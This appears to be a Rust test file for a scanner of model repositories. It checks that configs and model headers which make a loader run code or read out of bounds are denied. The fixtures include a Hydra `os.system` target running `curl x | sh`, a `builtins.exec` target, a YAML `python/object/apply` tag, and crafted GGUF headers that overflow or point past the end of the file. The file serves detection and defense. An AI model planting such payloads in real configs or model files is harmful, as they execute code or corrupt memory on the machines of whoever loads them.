//! Configs and headers that make a loader run code or read out of bounds (issue 17); included
//! from integration.rs.

use crate::support::*;

/// The action of the first finding of `rule` on `path`.
fn action(r: &serde_json::Value, path: &str, rule: &str) -> Option<String> {
    findings(r, rule)
        .into_iter()
        .find(|f| f["path"] == path)
        .map(|f| f["action"].as_str().unwrap_or_default().to_string())
}

#[test]
fn hydra_target_naming_os_system_is_denied_with_its_key() {
    let repo = Repo::new();
    repo.file("README.md", "---\nlicense: mit\n---\n")
        .file("model.safetensors", safetensors(&[], None))
        .file(
            "model_config.yaml",
            "preprocessor:\n  _target_: os.system\n  _args_: ['curl x | sh']\n",
        );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    assert_eq!(
        action(&r, "model_config.yaml", "CFG001").as_deref(),
        Some("deny")
    );
    let f = &findings(&r, "CFG001")[0];
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .contains("preprocessor._target_")
    );
    assert_eq!(f["evidence"]["references"][0], "CVE-2025-23304");
}

#[test]
fn json_config_with_dangerous_target_is_denied() {
    let repo = Repo::new();
    repo.file("README.md", "---\nlicense: mit\n---\n").file(
        "config.json",
        r#"{"model_type": "x", "head": {"_target_": "builtins.exec", "_args_": ["import os"]}}"#,
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    assert_eq!(action(&r, "config.json", "CFG001").as_deref(), Some("deny"));
}

#[test]
fn framework_targets_warn_at_most_and_are_named() {
    let repo = Repo::new();
    repo.file("README.md", "---\nlicense: mit\n---\n").file(
        "hparams.yaml",
        "model:\n  encoder:\n    _target_: nemo.collections.asr.modules.ConformerEncoder\n    d_model: 176\n  optim:\n    _target_: torch.optim.AdamW\n    _partial_: true\n",
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 0, "{r:#}");
    let rules = rules_on(&r, "hparams.yaml");
    assert!(rules.iter().all(|r| r == "CFG003"), "{rules:?}");
    assert!(findings(&r, "CFG003").iter().any(|f| {
        f["message"]
            .as_str()
            .unwrap()
            .contains("nemo.collections.asr.modules.ConformerEncoder")
    }));
    assert!(findings(&r, "CFG003").iter().all(|f| f["action"] == "warn"));
}

#[test]
fn python_yaml_tags_are_denied_with_their_line() {
    let repo = Repo::new();
    repo.file("README.md", "---\nlicense: mit\n---\n").file(
        "lightning_logs/version_0/hparams.yaml",
        "lr: 0.1\nx: !!python/object/apply:os.system ['id']\n",
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    let f = &findings(&r, "CFG002")[0];
    assert_eq!(f["action"], "deny");
    assert_eq!(f["location"]["line"], 2);
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .contains("python/object/apply")
    );
}

#[test]
fn plain_yaml_and_json_stay_clean() {
    let repo = Repo::new();
    repo.file("README.md", "---\nlicense: mit\n---\n")
        .file("conf/train.yaml", "lr: 0.001\nbatch: 32\ntarget: labels\n")
        .file("data.json", r#"{"target": "x", "items": [1, 2]}"#);
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 0, "{r:#}");
    assert!(rules_on(&r, "conf/train.yaml").is_empty());
    assert!(rules_on(&r, "data.json").is_empty());
}

/// A GGUF v3 file with one tensor `w` of the given dims and type at data offset 0, plus
/// `data` zero bytes after the aligned header.
fn gguf_tensor(dims: &[u64], ggml_type: u32, data: usize) -> Vec<u8> {
    let mut out = b"GGUF".to_vec();
    out.extend(3u32.to_le_bytes());
    out.extend(1u64.to_le_bytes());
    out.extend(0u64.to_le_bytes());
    out.extend(1u64.to_le_bytes());
    out.push(b'w');
    out.extend((dims.len() as u32).to_le_bytes());
    for d in dims {
        out.extend(d.to_le_bytes());
    }
    out.extend(ggml_type.to_le_bytes());
    out.extend(0u64.to_le_bytes());
    while !out.len().is_multiple_of(32) {
        out.push(0);
    }
    out.extend(std::iter::repeat_n(0u8, data));
    out
}

#[test]
fn gguf_exploit_shapes_are_denied_and_oddities_warned() {
    let repo = Repo::new();
    repo.file("README.md", "---\nlicense: mit\n---\n")
        .file("overflow.gguf", gguf_tensor(&[1 << 32, 1 << 32], 0, 0))
        .file("badtype.gguf", gguf_tensor(&[8], u32::MAX, 32))
        .file("past.gguf", gguf_tensor(&[1024], 0, 32))
        .file("ok.gguf", gguf_tensor(&[8], 0, 32))
        .file("odd.gguf", gguf_tensor(&[33], 2, 64));
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1);
    for (path, problem) in [
        ("overflow.gguf", "dimension-overflow"),
        ("badtype.gguf", "unknown-tensor-type"),
        ("past.gguf", "tensor-past-eof"),
    ] {
        let f = findings(&r, "FMT009")
            .into_iter()
            .find(|f| f["path"] == path)
            .unwrap_or_else(|| panic!("no FMT009 on {path}: {:?}", rules_on(&r, path)));
        assert_eq!(f["action"], "deny");
        assert_eq!(f["evidence"]["problem"], problem);
    }
    assert!(
        rules_on(&r, "ok.gguf").is_empty(),
        "{:?}",
        rules_on(&r, "ok.gguf")
    );
    assert_eq!(rules_on(&r, "odd.gguf"), ["FMT007"]);
    assert_eq!(action(&r, "odd.gguf", "FMT007").as_deref(), Some("warn"));
}
